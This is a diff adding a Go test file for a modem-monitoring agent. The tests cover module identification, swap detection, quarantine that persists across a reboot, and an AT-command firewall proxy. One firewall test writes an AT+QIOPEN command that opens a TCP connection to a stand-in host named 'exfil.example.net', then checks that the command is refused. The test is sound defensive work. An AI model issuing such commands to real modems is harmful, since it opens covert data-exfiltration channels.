@@ -1,0 +1,249 @@
+package agent
+
+import (
+	"context"
+	"errors"
+	"io"
+	"log/slog"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"go.uber.org/goleak"
+
+	"github.com/modemguard/modemguard/modem"
+	"github.com/modemguard/modemguard/policy"
+	"github.com/modemguard/modemguard/simulator"
+)
+
+func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }
+
+// bench is a gateway's USB port with a simulated module plugged into it;
+// plug swaps the module, as a technician would.
+type bench struct {
+	t   *testing.T
+	mu  sync.Mutex
+	sim *simulator.Modem
+
+	states chan ModuleState
+	evMu   sync.Mutex
+	events []Event
+	host   uint64
+}
+
+func newBench(t *testing.T, profile string, opts simulator.Options) *bench {
+	b := &bench{t: t, states: make(chan ModuleState, 100)}
+	b.plug(profile, opts)
+	t.Cleanup(func() {
+		b.mu.Lock()
+		defer b.mu.Unlock()
+		if b.sim != nil {
+			b.sim.Close()
+		}
+	})
+	return b
+}
+
+func (b *bench) plug(profile string, opts simulator.Options) *simulator.Modem {
+	p, err := simulator.LoadProfile(profile)
+	if err != nil {
+		b.t.Fatal(err)
+	}
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if b.sim != nil {
+		b.sim.Close() // unplugged: the host's end of the port fails
+	}
+	b.sim = simulator.New(p, opts)
+	return b.sim
+}
+
+func (b *bench) current() *simulator.Modem {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return b.sim
+}
+
+func (b *bench) open(path string, baud int) (io.ReadWriteCloser, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	if b.sim == nil {
+		return nil, errors.New("no such port")
+	}
+	return b.sim.Pipe(), nil
+}
+
+func (b *bench) deps(pol *policy.Policy) workerDeps {
+	return workerDeps{
+		log:      slog.New(slog.DiscardHandler),
+		registry: modem.DefaultRegistry(),
+		open:     b.open,
+		discover: func() ([]modem.Candidate, error) { return nil, nil },
+		policy:   func() *policy.Policy { return pol },
+		publish: func(s ModuleState, ev []Event) {
+			b.evMu.Lock()
+			b.events = append(b.events, ev...)
+			b.evMu.Unlock()
+			b.states <- s
+		},
+		hostBytes: func() (uint64, bool) { return b.host, true },
+		interval:  50 * time.Millisecond,
+	}
+}
+
+// waitState waits for a published state that satisfies ok.
+func (b *bench) waitState(what string, ok func(ModuleState) bool) ModuleState {
+	b.t.Helper()
+	deadline := time.After(20 * time.Second)
+	for {
+		select {
+		case s := <-b.states:
+			if ok(s) {
+				return s
+			}
+		case <-deadline:
+			b.t.Fatalf("waited 20s for %s", what)
+		}
+	}
+}
+
+func (b *bench) hasEvent(kind string) bool {
+	b.evMu.Lock()
+	defer b.evMu.Unlock()
+	return slices.ContainsFunc(b.events, func(e Event) bool { return e.Kind == kind })
+}
+
+func mustPolicy(t *testing.T, src string) *policy.Policy {
+	t.Helper()
+	p, err := policy.Parse("test-policy.yaml", []byte(src))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func startWorker(t *testing.T, w *worker) {
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		w.run(ctx)
+	}()
+	t.Cleanup(func() {
+		cancel()
+		<-done
+	})
+}
+
+func TestWorkerIdentifiesAndNoticesSwap(t *testing.T) {
+	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 1})
+	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200}, b.deps(mustPolicy(t, "version: 1\n")))
+	startWorker(t, w)
+	s := b.waitState("the EC25", func(s ModuleState) bool { return s.Up && s.Module.Vendor == "quectel" })
+	if s.Verdict.Action != policy.Allow || s.Enforcement != EnforceNone {
+		t.Errorf("verdict %v enforcement %s", s.Verdict.Action, s.Enforcement)
+	}
+	imei := s.Module.IMEI
+
+	b.plug("simcom-sim7600", simulator.Options{Seed: 2})
+	s = b.waitState("the swapped-in SIM7600", func(s ModuleState) bool { return s.Up && s.Module.Vendor == "simcom" })
+	if !slices.ContainsFunc(s.Module.Findings, func(f modem.Finding) bool {
+		return f.ID == "module-swapped" && strings.Contains(f.Detail, imei)
+	}) {
+		t.Errorf("no module-swapped finding naming the old IMEI: %+v", s.Module.Findings)
+	}
+	for _, k := range []string{EventModuleLost, EventModuleSwapped} {
+		if !b.hasEvent(k) {
+			t.Errorf("no %s event", k)
+		}
+	}
+}
+
+// TestWorkerQuarantineSurvivesReboot denies a covered-list module: the
+// radio goes off, and after the module reboots it goes off again.
+func TestWorkerQuarantineSurvivesReboot(t *testing.T) {
+	b := newBench(t, "huawei-me909s", simulator.Options{Seed: 3})
+	pol := mustPolicy(t, `version: 1
+modules:
+  default: allow
+  rules:
+    - id: covered-list
+      when: {lists: [fcc-covered]}
+      action: deny
+on_deny: quarantine
+`)
+	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB0", Baud: 115200}, b.deps(pol))
+	startWorker(t, w)
+	b.waitState("quarantine", func(s ModuleState) bool { return s.Up && s.Enforcement == EnforceQuarantined })
+	sim := b.current()
+	count := func() int {
+		n := 0
+		for _, l := range sim.Received() {
+			if l == "AT+CFUN=4" {
+				n++
+			}
+		}
+		return n
+	}
+	before := count()
+	if before == 0 {
+		t.Fatal("AT+CFUN=4 never reached the module")
+	}
+	sim.Reboot()
+	deadline := time.Now().Add(20 * time.Second)
+	for count() <= before || !b.hasEvent(EventModuleReset) {
+		if time.Now().After(deadline) {
+			t.Fatalf("after the reboot: CFUN=4 sent %d times (before %d), reset event %v", count(), before, b.hasEvent(EventModuleReset))
+		}
+		time.Sleep(10 * time.Millisecond) // the worker runs on its own goroutine; poll with a deadline
+	}
+}
+
+func TestWorkerModuleOwnTraffic(t *testing.T) {
+	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 4})
+	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200}, b.deps(mustPolicy(t, "version: 1\n")))
+	startWorker(t, w)
+	b.waitState("first identification", func(s ModuleState) bool { return s.Up })
+	b.current().StackSend(50000, 100) // the module's own stack sends; the host saw none of it
+	s := b.waitState("the reconciliation finding", func(s ModuleState) bool {
+		return s.Module != nil && slices.ContainsFunc(s.Module.Findings, func(f modem.Finding) bool { return f.ID == "module-own-traffic" })
+	})
+	if s.Module == nil {
+		t.Fatal("no module")
+	}
+}
+
+// TestWorkerProxy serves the firewall pty and refuses a module-internal
+// connection; the refusal becomes an event at once.
+func TestWorkerProxy(t *testing.T) {
+	b := newBench(t, "quectel-ec25", simulator.Options{Seed: 5})
+	pol := mustPolicy(t, "version: 1\nmodule_stack:\n  default: deny\n")
+	link := filepath.Join(t.TempDir(), "ttyAT0")
+	w := newWorker(0, ModemConfig{Port: "/dev/ttyUSB2", Baud: 115200, ProxyLink: link}, b.deps(pol))
+	startWorker(t, w)
+	b.waitState("the module behind the proxy", func(s ModuleState) bool { return s.Up })
+	f, err := os.OpenFile(link, os.O_RDWR, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	if _, err := f.Write([]byte("AT+QIOPEN=1,0,\"TCP\",\"exfil.example.net\",443,0,1\r")); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for !b.hasEvent(EventATFirewall) {
+		if time.Now().After(deadline) {
+			t.Fatal("no at-firewall event")
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	for _, l := range b.current().Received() {
+		if strings.Contains(l, "exfil") {
+			t.Fatalf("refused line reached the module: %q", l)
+		}
+	}
+}
